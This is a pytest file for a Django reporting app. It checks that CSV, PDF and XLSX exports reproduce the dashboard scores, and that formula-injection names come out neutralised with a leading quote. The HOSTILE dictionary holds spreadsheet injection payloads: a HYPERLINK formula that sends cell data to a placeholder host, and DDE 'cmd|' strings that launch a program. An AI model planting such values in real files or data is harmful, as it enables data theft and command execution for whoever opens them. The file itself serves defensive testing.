"""Exports show the dashboards' numbers, and a formula typed into a name comes out inert.

For the same URL filters (quarter, the Diajukan toggle, an area, a unit; an admin and an officer whose unit is
forced), the Rekap's CSV rows and its PDF's summary give the same per-unit, per-area and overall scores as
dashboards.selectors (score_overall, unit_ranking, scores_by_area): from the CSV by the scoring rule itself
(the weighted mean of the clipped capaian of the rows marked as counted), from the PDF as printed (pypdf).

Then names like `=HYPERLINK(…)`, `+cmd|…`, `@SUM(…)` and `-2+3` for a unit, an indicator and an area, which
reach the CSV rows, the XLSX summary sheet (Ringkasan) and a totals row: every such text cell starts with a
quote and no cell of any sheet is a formula.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections import defaultdict
from decimal import Decimal
from typing import Any

import pytest
from django.http import QueryDict
from openpyxl import load_workbook
from pypdf import PdfReader

from areas import scoring
from areas.models import ChangeArea, ElementAspect, Indicator, IndicatorTarget, RbTheme
from dashboards import selectors as dashboards
from dashboards.selectors.filters import TOGGLE_PARAM
from evaluations.models import ReportStatus
from exports import selectors as export_selectors
from exports.base import Column, Exporter, Section
from exports.reports import RekapExporter
from roadmap.numbers import display
from tests import factories
from tests.dashboard_data import fill, open_quarter, set_status, wita

pytestmark = pytest.mark.django_db

TOGGLE = TOGGLE_PARAM


def _indicator(roadmap, unit, code, area, polarity, weight, target):  # type: ignore[no-untyped-def]
    indicator = Indicator.objects.create(
        roadmap=roadmap,
        unit=unit,
        code=code,
        name=f"Indikator {code}",
        area=area,
        aspect=ElementAspect.objects.order_by("order").first(),
        theme=RbTheme.objects.order_by("order").first(),
        satuan="persen",
        polarity=polarity,
        weight=Decimal(weight),
    )
    IndicatorTarget.objects.create(indicator=indicator, year=2025, quarter=1, value=Decimal(target))
    return indicator


def build(unit_names: tuple[str, str, str] = ("Dinas Satu", "Dinas Dua", "Dinas Tiga")) -> dict[str, Any]:
    """Three units, two areas, weights 1–3, capaian from 37 to 150 % (clipped at 120), a lower-is-better and a
    milestone indicator; the reports Disetujui, Diajukan and Draf."""
    roadmap = factories.RoadmapFactory()
    area1, area3 = ChangeArea.objects.get(order=1), ChangeArea.objects.get(order=3)
    units = [factories.UnitFactory(name=name, slug=f"unit-{i}") for i, name in enumerate(unit_names)]
    plan = {
        0: [("higher", 1, 80, 92), ("lower", 2, 10, 12), ("higher", 3, 40, 60)],
        1: [("higher", 2, 80, 30), ("milestone", 1, 1, True), ("higher", 1, 50, 75)],
        2: [("lower", 1, 20, 5), ("higher", 2, 100, 99)],
    }
    values = {}
    for u, rows in plan.items():
        for j, (polarity, weight, target, value) in enumerate(rows):
            code = f"U{u}-{j}"
            _indicator(roadmap, units[u], code, area1 if j % 2 == 0 else area3, polarity, weight, target)
            values[code] = value if polarity == "milestone" else Decimal(value)
    cycle = open_quarter(roadmap, 2025, 1)
    fill(cycle, values)
    set_status(cycle, units[0], ReportStatus.DISETUJUI, wita(2025, 4, 5, 9))
    set_status(cycle, units[1], ReportStatus.DIAJUKAN, wita(2025, 4, 6, 9))
    return {"roadmap": roadmap, "cycle": cycle, "units": units, "areas": (area1, area3)}


def dashboard_numbers(user, query: QueryDict) -> dict[str, Any]:  # type: ignore[no-untyped-def]
    filters = dashboards.dashboard_filters(query=query, user=user)
    return {
        "overall": dashboards.score_overall(user=user, filters=filters).value,
        "units": {
            r.unit.name: r.score.value
            for r in dashboards.unit_ranking(user=user, filters=filters)
            if r.score.value is not None
        },
        "areas": {
            r.area.name: r.score.value
            for r in dashboards.scores_by_area(user=user, filters=filters)
            if r.score.value is not None
        },
    }


def csv_numbers(exporter: RekapExporter) -> dict[str, Any]:
    """The scores a reader of the CSV gets by the rule (clipped, weighted, counted rows only)."""
    text = b"".join(exporter.iter_csv(delimiter=";")).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text), delimiter=";"))
    counted = [r for r in rows if r["Dihitung dalam Skor"] == "Ya"]

    def number(text: str) -> Decimal | None:
        return Decimal(text.replace(",", ".")) if text else None

    def mean(group: list[dict[str, str]]) -> Decimal | None:
        return scoring.weighted_mean((number(r["Capaian (%)"]), number(r["Bobot"])) for r in group)

    by_unit, by_area = defaultdict(list), defaultdict(list)
    for r in counted:
        by_unit[r["Perangkat Daerah"]].append(r)
        by_area[r["Area Perubahan"]].append(r)
    out = {
        "overall": mean(counted),
        "units": {name: mean(group) for name, group in by_unit.items()},
        "areas": {name: mean(group) for name, group in by_area.items()},
    }
    out["units"] = {k: v for k, v in out["units"].items() if v is not None}
    out["areas"] = {k: v for k, v in out["areas"].items() if v is not None}
    return out


def pdf_numbers(exporter: RekapExporter, units: list[str], areas: list[str]) -> dict[str, Any]:
    """The summary as printed: "Perangkat Daerah <name> <score> …" lines of the Ringkasan table."""
    reader = PdfReader(io.BytesIO(exporter.to_bytes("pdf")))
    text = " ".join(" ".join(page.extract_text().split()) for page in reader.pages)
    number = r"(\d{1,3}(?:\.\d{3})*(?:,\d+)?|—)"

    def printed(group: str, name: str) -> str | None:
        match = re.search(rf"{re.escape(group)} {re.escape(name)} {number}", text)
        return match.group(1) if match else None

    overall = re.search(rf"Skor keseluruhan {number} %", text)
    return {
        "overall": overall.group(1) if overall else None,
        "units": {name: v for name in units if (v := printed("Perangkat Daerah", name)) not in (None, "—")},
        "areas": {name: v for name in areas if (v := printed("Area Perubahan", name)) not in (None, "—")},
        "text": text,
    }


def _printed(numbers: dict[str, Any]) -> dict[str, Any]:
    return {
        "overall": display(numbers["overall"]),
        "units": {k: display(v) for k, v in numbers["units"].items()},
        "areas": {k: display(v) for k, v in numbers["areas"].items()},
    }


@pytest.fixture
def world(admin_user):  # type: ignore[no-untyped-def]
    data = build()
    data["officer"] = factories.OperatorFactory(username="operator.satu", unit=data["units"][0])
    return data


CASES = {
    "approved only": lambda w: {},
    "with Diajukan": lambda w: {TOGGLE: "1"},
    "one area": lambda w: {"area": w["areas"][1].pk, TOGGLE: "1"},
    "one unit": lambda w: {"unit": w["units"][1].pk, TOGGLE: "1"},
}


@pytest.mark.parametrize("case", list(CASES))
@pytest.mark.parametrize("who", ["admin", "officer"])
def test_csv_and_pdf_show_the_dashboards_numbers(world, admin_user, case, who):
    user = admin_user if who == "admin" else world["officer"]
    params = {"roadmap": world["roadmap"].pk, "tahun": 2025, "triwulan": 1, **CASES[case](world)}
    query = QueryDict(mutable=True)
    query.update({k: str(v) for k, v in params.items()})

    expected = dashboard_numbers(user, query)
    exporter = RekapExporter(user=user, filters=export_selectors.export_filters(query=query, user=user))
    assert csv_numbers(exporter) == expected

    names = [u.name for u in world["units"]]
    printed = pdf_numbers(exporter, names, [a.name for a in world["areas"]])
    assert {k: printed[k] for k in ("overall", "units", "areas")} == _printed(expected), printed["text"]
    # The test has numbers to compare: never an empty agreement.
    assert expected["overall"] is not None and expected["units"]


def test_the_cases_differ(world, admin_user):
    """The filters matter (so the equalities above are not about one and the same set of rows)."""
    seen = []
    for case in CASES:
        query = QueryDict(mutable=True)
        query.update({"roadmap": str(world["roadmap"].pk), "tahun": "2025", "triwulan": "1"})
        query.update({k: str(v) for k, v in CASES[case](world).items()})
        seen.append(repr(dashboard_numbers(admin_user, query)))
    assert len(set(seen)) == len(CASES)


# --- formulas in names ---------------------------------------------------------------------------------

HOSTILE = {
    "unit": '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")',
    "indicator": "+cmd|' /C calc'!A0",
    "area": "@SUM(1+1)*cmd|' /C calc'!A0",
    "unit2": "-2+3+cmd|' /C calc'!A0",
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _assert_inert(value: Any) -> None:
    """No text cell starts as a formula (a neutralised one starts with the quote)."""
    assert not (isinstance(value, str) and value.startswith(FORMULA_START)), value


def _no_formula_cells(data: bytes) -> None:
    archive = zipfile.ZipFile(io.BytesIO(data))
    for name in archive.namelist():
        if name.startswith("xl/worksheets/"):
            assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name


@pytest.fixture
def hostile(admin_user):  # type: ignore[no-untyped-def]
    data = build(unit_names=(HOSTILE["unit"], HOSTILE["unit2"], "Dinas Tiga"))
    Indicator.objects.filter(code="U0-0").update(name=HOSTILE["indicator"])
    ChangeArea.objects.filter(pk=data["areas"][0].pk).update(name=HOSTILE["area"])
    query = QueryDict(mutable=True)
    query.update({"roadmap": str(data["roadmap"].pk), "tahun": "2025", "triwulan": "1", TOGGLE: "1"})
    data["exporter"] = RekapExporter(
        user=admin_user, filters=export_selectors.export_filters(query=query, user=admin_user)
    )
    return data


@pytest.mark.parametrize("delimiter", [",", ";"])
def test_formulas_in_names_are_inert_in_csv(hostile, delimiter):
    text = b"".join(hostile["exporter"].iter_csv(delimiter=delimiter)).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]
    for value in HOSTILE.values():
        assert "'" + value in cells, value  # the name is there, quoted
        assert value not in cells
    for cell in cells:
        _assert_inert(cell)


def test_formulas_in_names_are_inert_in_the_xlsx_summary_and_sheets(hostile):
    data = hostile["exporter"].to_bytes("xlsx")
    _no_formula_cells(data)
    wb = load_workbook(io.BytesIO(data))
    summary = [c for row in wb["Ringkasan"].iter_rows(values_only=True) for c in row]
    # The summary rows (per area, per unit) carry the hostile names, quoted.
    for key in ("unit", "unit2", "area"):
        assert "'" + HOSTILE[key] in summary, key
    for sheet in wb.worksheets:
        for row in sheet.iter_rows(values_only=True):
            for value in row:
                _assert_inert(value)
    everything = [c for s in wb.worksheets for row in s.iter_rows(values_only=True) for c in row]
    assert "'" + HOSTILE["indicator"] in everything


class _Named:
    """A model-like value whose text is a formula (a report may put an object, not its str, into a row)."""

    def __str__(self) -> str:
        return '=HYPERLINK("http://contoh.invalid","x")'


class _Totals(Exporter):
    key = "uji"
    title = "Uji"

    def columns(self):  # type: ignore[no-untyped-def]
        return [Column("Nama", width=20), Column("Jumlah", "integer"), Column("Catatan")]

    def rows(self):  # type: ignore[no-untyped-def]
        yield [HOSTILE["unit"], 1, _Named()]
        yield ["-", 2, HOSTILE["indicator"]]

    def sections(self):  # type: ignore[no-untyped-def]
        yield Section(
            title=self.title, columns=self.columns(), rows=self.rows(), totals=[HOSTILE["unit2"], 3, _Named()]
        )


def test_a_totals_row_is_neutralised_like_any_other():
    data = _Totals().to_bytes("xlsx")
    _no_formula_cells(data)
    ws = load_workbook(io.BytesIO(data)).active
    rows = list(ws.iter_rows(values_only=True))
    assert rows[-1] == ("'" + HOSTILE["unit2"], 3, "'" + str(_Named()))  # the bold totals row
    assert rows[1] == ("'" + HOSTILE["unit"], 1, "'" + str(_Named()))
    assert rows[2] == ("'-", 2, "'" + HOSTILE["indicator"])
    text = b"".join(_Totals().iter_csv()).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text)))[1:] == [
        ["'" + HOSTILE["unit"], "1", "'" + str(_Named())],
        ["'-", "2", "'" + HOSTILE["indicator"]],
    ]
    assert all(not cell.startswith(FORMULA_START) for row in csv.reader(io.StringIO(text)) for cell in row)
